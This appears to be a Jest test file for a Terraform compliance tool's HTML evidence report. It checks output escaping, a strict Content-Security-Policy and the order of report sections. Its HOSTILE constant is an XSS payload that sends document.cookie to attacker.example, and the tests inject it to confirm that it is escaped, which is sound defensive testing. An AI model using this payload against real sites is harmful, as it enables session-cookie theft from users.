import { createHash } from "node:crypto";
import { check } from "../../lib/compliance/engine";
import { fail, Rule } from "../../lib/compliance/rule";
import { buildEvidence } from "../../lib/evidence/build";
import { renderHtml } from "../../lib/report/html";
import { addDocument } from "../../lib/terraform/load";
import { TfModule } from "../../lib/terraform/model";

const HOSTILE = `<img src=x onerror="fetch('https://attacker.example/'+document.cookie)">`;

const rule: Rule = {
  id: "test-echo",
  title: "echoes the description",
  requirements: ["AICP-DATA-02"],
  severity: "mandatory",
  waivable: true,
  appliesTo: ["aws_kms_key"],
  remediation: `Fix it ${HOSTILE}`,
  check: (r) => fail(`description is ${String(r.body.description)}`),
};

function page(): string {
  const module = new TfModule("platform");
  const doc = { resource: { aws_kms_key: { k: { description: HOSTILE } } } };
  addDocument(module, doc, "platform.tf.json");
  const report = check([module], { rules: [rule], now: new Date("2026-06-01T00:00:00Z") });
  const record = buildEvidence(report, {
    rules: [rule],
    modules: [module],
    files: [{ module: "platform", file: "platform.tf.json", content: JSON.stringify(doc) }],
    version: "1.0.0",
    now: new Date("2026-06-01T00:00:00Z"),
    revision: null,
  });
  return renderHtml(record, { title: `Evidence ${HOSTILE}` });
}

describe("the HTML report", () => {
  const html = page();

  it("escapes what the Terraform says, so a resource cannot inject markup into the report", () => {
    expect(html).not.toContain("<img");
    expect(html).toContain("&lt;img src=x onerror=&quot;fetch(&#39;https://attacker.example/&#39;+document.cookie)&quot;&gt;");
  });

  it("allows by its Content-Security-Policy only its own inline style and script, by hash, and nothing from the network", () => {
    const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)?.[1] ?? "";
    const hash = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
    const style = /<style>([\s\S]*?)<\/style>/.exec(html)![1];
    const script = /<script>([\s\S]*?)<\/script>/.exec(html)![1];
    expect(csp).toBe(
      `default-src 'none'; style-src ${hash(style)}; script-src ${hash(script)}; img-src data:; form-action 'none'; base-uri 'none'`,
    );
    expect(html.match(/<script/g)).toHaveLength(1);
    expect(html).not.toMatch(/\b(src|href)="(https?:)?\/\//);
  });

  it("puts the verdict and the readiness before the requirement matrix, with remediation for the failure", () => {
    expect(html.indexOf('id="verdict"')).toBeLessThan(html.indexOf('id="readiness-verdict"'));
    expect(html.indexOf('id="readiness-verdict"')).toBeLessThan(html.indexOf('id="requirements"'));
    expect(html).toContain("<strong>FAIL: 1 mandatory finding fails</strong> (fail-on mandatory)");
    expect(html).toMatch(/<li data-rule="test-echo"><h3><code>test-echo<\/code>: 1 failing<\/h3><p>Fix it &lt;img/);
  });
});
